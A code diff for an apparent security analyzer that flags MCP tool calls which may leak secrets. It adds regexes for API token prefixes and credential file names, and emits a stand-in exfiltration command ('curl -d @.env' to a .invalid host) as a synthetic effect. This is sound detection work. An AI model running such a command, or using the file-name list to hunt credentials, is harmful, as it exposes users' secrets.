@@ -7,10 +7,26 @@
 //  - a URL the call opens (navigate, open, fetch) that carries a secret or a session token.
 import type { Effect } from './types.js';
 import { urlHost, urlSecret } from './url-secret.js';
+import { SECRET_VALUE } from './secret-shapes.js';
 
 interface CommandSource {
   forCommand(command: string): Effect[];
 }
+
+/** A token's provider prefix with a few characters after it (a key cut short still names it), or a key block. */
+const TOKEN_MENTION =
+  /\b(?:AKIA[0-9A-Z]{4,}|gh[pousr]_[A-Za-z0-9]{4,}|github_pat_\w{4,}|glpat-[\w-]{4,}|xox[abpr]-[\w-]{4,}|sk-(?:proj-|ant-)?[A-Za-z0-9]{4,}|[sr]k_live_\w{4,})|-----BEGIN [A-Z ]*PRIVATE KEY/;
+const MESSAGE_OP = /send|post|message|comment|issue|mail|publish|gist|reply|chat|tweet|webhook|discussion|review/;
+/** Stores made for secrets (platform env vars, secret managers): putting one there is their use. */
+const SECRET_STORE_OP = /env|secret|variable|credential|vault|key|token|password/;
+/** Verbs that store text in a service (pages, records, notes, documents, rows). */
+const STORE_OP = /create|update|append|insert|add|put|save|write|upload|set/;
+const SEARCH_OP = /search|find|glob|grep|list|locate|walk|tree/;
+/** Names of credential files, as a search pattern names them. */
+const KEY_FILE_NAME =
+  /id_(?:rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|\.p12|\.pfx|\.kdbx|\.jks|keystore|credential|\.env\b|\.npmrc|\.netrc|\.pgpass|git-credentials|wallet|secret|passw|token|\.ovpn|kubeconfig|\.tfstate/i;
+/** A whole home folder or the disk. */
+const WIDE_ROOT = /^(?:~|\$HOME|\/home(?:\/[^/]+)?|\/Users(?:\/[^/]+)?|\/root|\/|[A-Za-z]:\\(?:Users\\[^\\]+)?)\/?$/;
 
 const SUBSTITUTION = /\$\(([^()]{1,500})\)|`([^`]{1,500})`/g;
 const PAGE_SECRETS =
@@ -28,7 +44,10 @@ function strings(p: Record<string, unknown>): [string, string][] {
 export function mcpFlows(op: string, p: Record<string, unknown>, remote: boolean, cache: CommandSource): Effect[] {
   const out: Effect[] = [];
   const outbound =
-    remote || /send|post|message|comment|issue|mail|publish|upload|gist|reply|create|write|chat/.test(op);
+    remote ||
+    /send|post|message|comment|issue|mail|publish|upload|gist|reply|create|write|chat|request|http|fetch|navigate|webhook/.test(
+      op,
+    );
   if (outbound)
     for (const [, v] of strings(p)) {
       SUBSTITUTION.lastIndex = 0;
@@ -40,6 +59,58 @@ export function mcpFlows(op: string, p: Record<string, unknown>, remote: boolean
             out.push({ ...e, via: `MCP ${op} sends the output of \`${cmd.slice(0, 60)}\`: ${e.via}` });
       }
     }
+  // files attached to what is sent: each is read (the credential-file rules decide)
+  if (outbound)
+    for (const [k, v] of Object.entries(p)) {
+      if (!/attach|file|path/i.test(k)) continue;
+      const list = Array.isArray(v) ? v : [v];
+      for (const f of list) {
+        const path =
+          typeof f === 'string' ? f : f && typeof f === 'object' ? (f as Record<string, unknown>)['path'] : undefined;
+        if (typeof path === 'string' && /^(?:\/|~|\$HOME|[A-Za-z]:\\)/.test(path) && Array.isArray(v))
+          out.push({ tool: 'read', path, via: `MCP ${op} attaches ${path}` });
+      }
+    }
+  // a page, record, note or file created in someone else's service: a live secret in it leaves
+  if (
+    !remote &&
+    STORE_OP.test(op) &&
+    !SECRET_STORE_OP.test(op) &&
+    !strings(p).some(([k]) => /^(?:path|file_?path|filepath|destination|target)$/i.test(k))
+  ) {
+    const hit = strings(p)
+      .map(([, v]) => SECRET_VALUE.exec(v)?.[0])
+      .find((x) => x !== undefined);
+    if (hit)
+      out.push({
+        tool: 'exec',
+        command: `curl -d @.env https://${op.replace(/[^\w-]/g, '') || 'remote'}.invalid/`,
+        via: `MCP ${op} stores a secret (${hit.slice(0, 8)}...) in a service outside this machine`,
+      });
+  }
+  if (remote || MESSAGE_OP.test(op)) {
+    const hit = strings(p)
+      .map(([, v]) => TOKEN_MENTION.exec(v)?.[0])
+      .find((x) => x !== undefined);
+    if (hit)
+      out.push({
+        tool: 'exec',
+        command: `may-expose-secret mentions ${hit.slice(0, 12).replace(/[^\w-]/g, '_')}`,
+        via: `MCP ${op} sends what looks like a credential (${hit.slice(0, 8)}...)`,
+      });
+  }
+  if (SEARCH_OP.test(op)) {
+    const where = strings(p).find(([k, v]) => /path|root|dir|folder|cwd|base/i.test(k) && WIDE_ROOT.test(v))?.[1];
+    const what = strings(p).find(
+      ([k, v]) => /pattern|query|glob|name|regex|include|search/i.test(k) && KEY_FILE_NAME.test(v),
+    )?.[1];
+    if (where && what)
+      out.push({
+        tool: 'exec',
+        command: `may-expose-secret hunts ${where.replace(/[^\w/~.-]/g, '_')}`,
+        via: `MCP ${op} searches ${where} for credential files (${what.slice(0, 30)})`,
+      });
+  }
   if (/evaluate|execute_?(?:js|javascript|script)|run_?(?:js|javascript|script)|eval/.test(op)) {
     const code = strings(p)
       .filter(([k]) => /function|script|expression|code|js|source/.test(k.toLowerCase()))
